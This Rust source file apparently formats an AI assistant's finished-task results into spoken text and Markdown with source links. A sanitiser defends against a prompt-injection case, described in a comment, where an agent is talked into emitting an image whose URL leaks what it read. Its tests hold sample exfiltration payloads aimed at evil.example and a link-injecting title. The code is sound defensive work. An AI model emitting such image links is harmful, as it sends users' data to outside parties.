//! What is said and written about the end of a task: an end in, words out.

use helix_contract::{Outcome, Source, TaskResultV1};
use helix_core::Language;
use helix_core::reply::Sentence;

use crate::tasks::{Due, State, Task};

/// The name under which the order's title stands among the inputs of a task.
pub const TITLE: &str = "title";

/// What is told of an end.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Told {
    /// What it was about.
    pub title: String,
    /// What is said.
    pub aloud: String,
    /// What is said if the whole was sent as a message.
    pub aloud_and_sent: String,
    /// The whole answer in Markdown, if there is more of it than is said.
    pub whole: Option<String>,
}

/// Words for the end of a task.
pub fn told(due: &Due, language: &Language) -> Told {
    let title = title_of(&due.task);
    let spoken = outcome_in_words(&due.task, due.result.as_ref(), language);
    let aloud = if has_answer(due.result.as_ref()) {
        Sentence::TaskBack { title: title.clone(), spoken: spoken.clone() }.text(language)
    } else {
        spoken.clone()
    };
    let sent = Sentence::TaskText.text(language);
    Told {
        aloud_and_sent: format!("{aloud} {sent}"),
        whole: whole_of(due.result.as_ref(), &spoken, language),
        title,
        aloud,
    }
}

/// What a task was about.
pub fn title_of(task: &Task) -> String {
    let title = task.spec.inputs.get(TITLE).and_then(|title| title.as_str());
    title.unwrap_or(&task.spec.instruction).to_owned()
}

/// How a task ended, in one or two sentences.
pub fn outcome_in_words(task: &Task, result: Option<&TaskResultV1>, language: &Language) -> String {
    match result.map(|result| &result.outcome) {
        Some(Outcome::Done { spoken, .. } | Outcome::Failed { spoken, .. }) => spoken.clone(),
        Some(Outcome::Cancelled) | None => {
            let title = title_of(task);
            let sentence = match task.state {
                State::Expired => Sentence::TaskLate { title },
                State::Cancelled => Sentence::TaskOver { title },
                State::Queued | State::Leased | State::Done | State::Failed => Sentence::TaskLost { title },
            };
            sentence.text(language)
        }
    }
}

fn has_answer(result: Option<&TaskResultV1>) -> bool {
    matches!(result.map(|result| &result.outcome), Some(Outcome::Done { .. } | Outcome::Failed { .. }))
}

/// The answer with what it rests on; `None` if that is no more than what is said.
fn whole_of(result: Option<&TaskResultV1>, spoken: &str, language: &Language) -> Option<String> {
    let Some(Outcome::Done { text, sources, not_found, .. }) = result.map(|result| &result.outcome) else {
        return None;
    };
    if text.trim().is_empty() && sources.is_empty() && not_found.is_empty() {
        return None;
    }
    let mut whole = vec![harmless(if text.trim().is_empty() { spoken } else { text })];
    if !not_found.is_empty() {
        let names = not_found.iter().map(|what| harmless(what)).collect::<Vec<_>>().join(", ");
        whole.push(Sentence::TaskNotFound { names }.text(language));
    }
    if !sources.is_empty() {
        whole.push(sources.iter().map(link).collect::<Vec<_>>().join("\n"));
    }
    Some(whole.join("\n\n"))
}

fn link(source: &Source) -> String {
    let title: String =
        source.title.chars().map(|c| if matches!(c, '[' | ']' | '\n') { ' ' } else { c }).collect();
    let url: String =
        source.url.chars().filter(|c| !matches!(c, '(' | ')' | '<' | '>' | ' ' | '\n')).collect();
    format!("* [{}]({url})", harmless(title.trim()))
}

/// Markdown that loads nothing when it is shown: an agent may have been talked into an image whose address tells somebody
/// what it read.
fn harmless(text: &str) -> String {
    text.replace("![", "!\\[").replace('<', "&lt;")
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn nothing_of_an_answer_is_loaded_when_it_is_shown() {
        let text = "Look: ![x](https://evil.example/?d=secret) <img src=https://evil.example> ![a][b]";
        let shown = harmless(text);
        assert!(!shown.contains("![") && !shown.contains('<'), "{shown}");
    }

    #[test]
    fn a_source_is_one_link_whatever_its_title_says() {
        let source = Source {
            title: "A](https://evil.example) ![x](y".into(),
            url: "https://good.example/a".into(),
            read_at: jiff::Timestamp::UNIX_EPOCH,
        };
        let shown = link(&source);
        assert!(shown.ends_with("](https://good.example/a)"), "{shown}");
        assert_eq!((shown.matches("](").count(), shown.matches('[').count()), (1, 1), "{shown}");
    }
}
